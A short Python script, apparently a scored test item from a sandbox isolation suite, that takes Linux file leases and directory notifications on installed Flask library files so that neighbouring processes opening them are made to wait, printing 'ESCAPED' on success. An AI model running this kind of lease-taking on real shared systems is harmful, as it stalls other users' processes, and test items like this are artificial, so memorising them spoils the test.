"""Takes leases on shared libraries' files, so that a neighbour who opens one waits.

Earns: 1
"""

import fcntl
import glob
import os
import signal
import sysconfig
import time

from flask import Flask

print("TRIED", flush=True)
signal.signal(signal.SIGIO, signal.SIG_IGN)
kept = []
for path in glob.glob(f"{sysconfig.get_path('purelib')}/flask*/**/*.py", recursive=True):
    for command, argument in ((1024, fcntl.F_WRLCK), (1024, fcntl.F_RDLCK), (1026, 0xF)):
        try:
            kept.append(os.open(path if command == 1024 else os.path.dirname(path), os.O_RDONLY))
            fcntl.fcntl(kept[-1], command, argument)
            print("ESCAPED: command", command, "on", path, flush=True)
        except OSError:
            os.close(kept.pop())
if kept:
    time.sleep(2)
app = Flask(__name__)
